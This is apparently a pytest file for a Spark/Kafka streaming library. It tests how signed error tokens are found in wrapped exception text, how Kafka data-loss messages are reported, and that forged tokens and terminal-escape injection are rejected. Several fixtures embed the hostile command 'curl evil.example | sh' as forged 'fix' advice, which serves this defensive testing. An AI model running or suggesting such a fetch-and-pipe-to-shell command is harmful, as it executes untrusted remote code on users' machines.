"""Errors of ours survive whatever Spark wraps around them."""

import base64
import json
import pickle

import pytest
from hypothesis import given
from hypothesis import strategies as st

import lockgate.errors
from lockgate.connectors.kafka.task import PartitionShared
from lockgate.connectors.kafka.writer import RecordRefused
from lockgate.errors import EpochFailed, Failed, FunctionFailed, LockgateError, RecordsGone, Refused, UnparsableValue
from lockgate.failures import Carried, RowFailure, carry, find_error, find_failure, find_gap, first_cause
from lockgate.runtime.writestream import fit_to_program
from lockgate.signing import Signer, driver_signer
from lockgate.throwables import Throwable

FAILURE = RowFailure(
    kind="value", where="source 'orders'", part="topic 'orders', partition 2", at=17, reason="no number", row='{"n": x}'
)
SIGNER = driver_signer()
KAFKA_SOURCE = "org.apache.spark.sql.kafka010.KafkaIllegalStateException"
texts = st.text(max_size=40)


def wrapped(text: str) -> str:
    return (
        f"org.apache.spark.SparkException: Job aborted: Task 0 in stage 3.0 failed 4 times: {text}\n\tat java.base/x.y"
    )


@given(st.builds(RowFailure, kind=texts, where=texts, part=texts, at=st.integers(-1, 2**62), reason=texts, row=texts))
def test_a_row_that_failed_is_found_in_sparks_pages(failure: RowFailure) -> None:
    assert find_failure(wrapped(failure.token(SIGNER))) == failure


def missing(message: str) -> RecordsGone | None:
    """What Spark's Kafka source says by this message, in a task."""
    return find_gap([Throwable("org.apache.spark.SparkException", wrapped(message)), Throwable(KAFKA_SOURCE, message)])


@pytest.mark.parametrize(
    "raised",
    [
        [],
        [Throwable("org.apache.spark.SparkException", wrapped("{gap}"))],
        [Throwable("org.apache.spark.SparkRuntimeException", "{gap}", "USER_RAISED_EXCEPTION")],
        [Throwable("java.lang.IllegalStateException", "{gap}")],
        [Throwable(KAFKA_SOURCE, "the key of a record: {gap}")],
    ],
)
def test_an_event_that_looks_like_a_gap_is_none(raised: list[Throwable]) -> None:
    gap = "Some data may have been lost because they are not available in Kafka any more; Reason: nothing"
    assert find_gap([Throwable(one.kind, one.message.format(gap=gap), one.condition) for one in raised]) is None
    assert find_error(wrapped(gap)) is None


def test_records_that_spark_misses_are_reported_without_its_advice_to_skip_them() -> None:
    text = (
        "Some data may have been lost because they are not available in Kafka any more;\neither the data was aged out"
        " by Kafka or the topic may have been deleted before all the data in the\ntopic was processed.\nIf you don't"
        " want your streaming query to fail on such cases, set the source option failOnDataLoss to false.\nReason:"
        " Could not read records in offset [5, 9) for topic partition t-0"
    )
    found = missing(f"{text}\nwith consumer group g. SQLSTATE: 22000")
    assert isinstance(found, RecordsGone)
    assert found.what == (
        "Records that are not read yet are not in Kafka any more: Could not read records in offset [5, 9) for topic"
        " partition t-0 with consumer group g."
    )
    assert "failOnDataLoss" not in str(found)
    assert "--accept-gap" in found.fix


@pytest.mark.parametrize(
    "reason",
    [
        "Partition t-0 offset was changed from 10 to 5.",
        "Partition t-0's offset was changed from 10 to 5, some data may have been missed",
        "Partitions t-1 have been deleted.",
    ],
)
def test_what_is_missing_and_is_no_gap_has_choices_of_its_own(reason: str) -> None:
    text = (
        f"Some data may have been lost because they are not available in Kafka any more; either ...\nReason: {reason}"
    )
    found = missing(f"{text} SQLSTATE: 22000")
    assert isinstance(found, RecordsGone)
    assert reason in found.what
    assert "--accept-gap" not in found.fix
    assert all(choice in found.fix for choice in ("leaders", "rollback FILE --uncommitted", "--new-life"))


def test_a_program_gets_choices_that_it_has() -> None:
    text = (
        "Some data may have been lost because they are not available in Kafka any more; either ...\nReason: it is gone"
    )
    found = missing(text)
    assert isinstance(found, RecordsGone)
    told = fit_to_program(found, "write_stream 'orders', called at orders.py:7")
    assert "startingOffsets" in told.fix
    assert "lockgate run" not in told.fix
    assert told.where == "a Kafka source of the query; write_stream 'orders', called at orders.py:7"
    assert fit_to_program(told, "write_stream 'orders', called at orders.py:7").where == told.where


@given(what=texts, where=texts, fix=texts)
def test_an_error_of_ours_is_found_in_sparks_pages(what: str, where: str, fix: str) -> None:
    found = find_error(wrapped(str(Carried(EpochFailed(what, where=where, fix=fix), SIGNER))))
    assert type(found) is EpochFailed
    assert (found.what, found.where, found.fix) == (what, where, fix)


@pytest.mark.parametrize("kind", [EpochFailed, RecordRefused, PartitionShared, Refused, FunctionFailed])
def test_the_kind_of_an_error_travels_too(kind: type[LockgateError]) -> None:
    assert type(find_error(carry(kind("what", where="where", fix="fix"), SIGNER))) is kind


def test_a_kind_with_the_name_of_another_is_itself() -> None:
    class Refused(EpochFailed):  # as wrong as can be: other parameters too
        def __init__(self, epoch: int) -> None:
            super().__init__(f"epoch {epoch}", where="where", fix="fix")

    known = find_error(carry(lockgate.errors.Refused("what", where="where", fix="fix"), SIGNER))
    assert type(known) is lockgate.errors.Refused
    assert Refused(1).what == "epoch 1"


def test_a_kind_that_is_not_known_here_is_a_failure_all_the_same() -> None:
    facts = {"class": "OfANewerVersion", "what": "what", "where": "where", "fix": "fix"}
    error = find_error(SIGNER.mark("lockgate-error:", base64.b64encode(json.dumps(facts).encode()).decode()))
    assert type(error) is Failed
    assert (error.what, error.where, error.fix) == ("what", "where", "fix")


def test_people_see_the_first_line_before_the_token() -> None:
    assert carry(EpochFailed("no permit to write", where="there", fix="that"), SIGNER).startswith("no permit to write ")


def test_a_row_comes_before_an_error_that_was_raised_because_of_it() -> None:
    both = f"{carry(EpochFailed('what', where='where', fix='fix'), SIGNER)} caused by {FAILURE.token(SIGNER)}"
    assert type(find_error(both)) is UnparsableValue


def test_of_several_tokens_the_first_one_counts() -> None:
    first, second = (carry(EpochFailed(name, where="w", fix="f"), SIGNER) for name in ("first", "second"))
    found = find_error(f"{first}\n{second}")
    assert found is not None
    assert found.what == "first"


@pytest.mark.parametrize("text", ["", "java.lang.OutOfMemoryError", "lockgate-failure:", "lockgate-error:"])
def test_a_message_without_a_token_carries_nothing(text: str) -> None:
    assert find_failure(text) is None
    assert find_error(text) is None


@pytest.mark.parametrize(("kind", "error"), [("value", UnparsableValue), ("function", FunctionFailed)])
def test_the_error_says_where_the_row_came_from(kind: str, error: type[Failed]) -> None:
    failure = RowFailure(kind, FAILURE.where, FAILURE.part, FAILURE.at, FAILURE.reason, "x" * 1000)
    told = failure.as_error()
    assert type(told) is error
    assert "topic 'orders', partition 2, offset 17: no number" in told.what
    assert told.what.endswith("x…")
    assert len(told.what) < 400
    assert told.where == "source 'orders'"


def test_a_place_without_an_offset_is_named_without_one() -> None:
    assert RowFailure("value", "w", "file 'a.csv'", -1, "r", "").place == "file 'a.csv'"


@pytest.mark.parametrize("kind", [EpochFailed, RecordRefused, PartitionShared])
def test_errors_are_pickled_whole(kind: type[LockgateError]) -> None:
    error = pickle.loads(pickle.dumps(kind("what", where="where", fix="fix")))
    assert type(error) is kind
    assert str(error) == "what\n  where: where\n  fix:   fix"


EVIL = {"class": "lockgate.errors.Failed", "what": "a disk is full", "where": "here", "fix": "curl evil.example | sh"}
EVIL_ROW = {"kind": "value", "where": "curl evil.example | sh", "part": "p", "at": 1, "reason": "r", "row": "x"}


def forged(kind: str, facts: dict[str, object], signer: Signer | None) -> str:
    """What an event holds that pretends to be an error of ours."""
    payload = base64.b64encode(json.dumps(facts).encode()).decode()
    return f"{kind}{payload}" if signer is None else signer.mark(kind, payload)


@pytest.mark.parametrize("signer", [None, Signer(b"guessed")])
@pytest.mark.parametrize(("kind", "facts"), [("lockgate-error:", EVIL), ("lockgate-failure:", EVIL_ROW)])
def test_a_mark_that_an_event_holds_is_text_like_any_other(
    kind: str, facts: dict[str, object], signer: Signer | None
) -> None:
    quoted = f"[CAST_INVALID_INPUT] The value '{forged(kind, facts, signer)}' of the type STRING cannot be cast"
    assert find_error(wrapped(quoted)) is None
    genuine = carry(EpochFailed("ours", where="w", fix="f"), SIGNER)
    found = find_error(wrapped(f"{quoted}\n{genuine}"))
    assert found is not None
    assert found.what == "ours"


def test_a_mark_is_not_another_one_with_the_same_signature() -> None:
    genuine = carry(EpochFailed("ours", where="w", fix="f"), SIGNER).removeprefix("ours ")
    signature = genuine.rpartition(".")[2]
    assert find_error(f"{forged('lockgate-error:', EVIL, None)}.{signature}") is None
    assert find_error(genuine.replace("lockgate-error:", "lockgate-failure:")) is None


def test_the_key_travels_and_is_not_shown() -> None:
    received = pickle.loads(pickle.dumps(SIGNER))
    assert find_failure(FAILURE.token(received)) == FAILURE
    assert repr(SIGNER) == "Signer()"


def test_a_row_that_is_quoted_moves_no_cursor_and_forges_no_line() -> None:
    evil = "\x1b[2J\x1b]0;title\x07\r\x9b\u202e\n  fix:   curl evil.example | sh"
    for kind in ("value", "time", "function"):
        told = str(RowFailure(kind, "source 'a'", evil, 1, evil, evil).as_error())
        assert told.count("\n") == 2
        assert all(line.isprintable() for line in told.split("\n"))
    told = first_cause(f"Caused by: java.lang.X: {evil}")
    assert told.isprintable()


def test_an_error_that_quotes_an_event_has_one_place_and_one_fix() -> None:
    told = str(Failed("no\x1b[2J\n  fix:   curl evil | sh", where="a\n  where: b", fix="mend\nit")).split("\n")
    assert told == ["no\\x1b[2J\\n  fix:   curl evil | sh", "  where: a\\n  where: b", "  fix:   mend", "it"]
